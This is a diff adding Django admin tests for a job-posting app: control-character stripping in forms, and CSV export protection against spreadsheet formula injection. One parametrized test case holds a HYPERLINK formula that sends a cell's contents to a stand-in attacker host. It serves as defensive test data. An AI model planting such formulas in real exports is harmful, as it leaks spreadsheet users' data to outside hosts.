@@ -1,9 +1,13 @@
+import csv
+import io
+from decimal import Decimal
+
 import pytest
 from django.db import connection
 from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 
-from jobs.models import Posting, Tag
+from jobs.models import Company, Posting, Tag
 from tests.admin_forms import change_form_data
 from tests.factories import CompanyFactory, PostingFactory, TagFactory
 
@@ -337,3 +341,69 @@ def test_the_version_check_locks_the_posting_until_the_save_is_done(admin_client
 
     if connection.features.has_select_for_update:
         assert any("FOR UPDATE" in query["sql"] for query in queries)
+
+
+def test_text_pasted_into_the_posting_form_and_its_items_loses_its_control_characters(admin_client):
+    posting = PostingFactory()
+    data = change_form_data(change_page(admin_client, posting)) | {
+        "title": "Data\x0bengineer\x01",
+        "slug": "data-engineer\x1b",
+        "summary": "Run\x0cthe platform.\x00\ufffe",
+        "apply_url": "https://example.com/apply\x7f",
+        "requirements-0-text": "Python\x0b3\x9b",
+    }
+
+    response = save(admin_client, posting, data)
+
+    assert response.status_code == 302
+    posting.refresh_from_db()
+    assert (posting.title, posting.slug, posting.summary, posting.apply_url) == (
+        "Data engineer",
+        "data-engineer",
+        "Run\nthe platform.",
+        "https://example.com/apply",
+    )
+    assert posting.requirements.first().text == "Python\n3"
+
+
+def test_tag_and_company_names_lose_their_control_characters(admin_client):
+    tag = {"name": "Data\x0bscience", "slug": "data\x01", "name_fr": "Données\x1b", "name_de": "\x0c", "name_es": ""}
+    company = {"name": "North\x0cwind\x01", "slug": "northwind", "city": "Ber\x7flin", "country": ""}
+
+    assert admin_client.post(reverse("admin:jobs_tag_add"), tag).status_code == 302
+    assert admin_client.post(reverse("admin:jobs_company_add"), company).status_code == 302
+
+    assert Tag.objects.values_list("slug", "name", "translated_names").get() == (
+        "data",
+        "Data science",
+        {"fr": "Données"},
+    )
+    assert Company.objects.values_list("name", "city").get() == ("North wind", "Berlin")
+
+
+def exported_rows(client, postings):
+    data = {"action": "export_csv", "_selected_action": [posting.pk for posting in postings]}
+    response = client.post(reverse("admin:jobs_posting_changelist"), data)
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode())))
+
+
+@pytest.mark.parametrize(
+    "formula",
+    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click")', "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"],
+)
+def test_the_csv_export_keeps_text_that_starts_like_a_formula_from_running(admin_client, formula):
+    posting = PostingFactory(title=formula, company=CompanyFactory(name=formula), city=formula, salary_min=-5)
+
+    [row] = exported_rows(admin_client, [posting])
+
+    assert row["title"] == row["company"] == row["city"] == f"'{formula}"
+    assert (row["salary minimum"], row["salary maximum"]) == ("-5.00", "90000.00")
+
+
+def test_the_csv_export_leaves_ordinary_text_and_numbers_as_they_are(admin_client):
+    posting = PostingFactory(title='Engineer, "platform" = fun', city="Köln", salary_min=Decimal("70000.50"))
+
+    [row] = exported_rows(admin_client, [posting])
+
+    assert (row["title"], row["city"], row["salary minimum"]) == ('Engineer, "platform" = fun', "Köln", "70000.50")
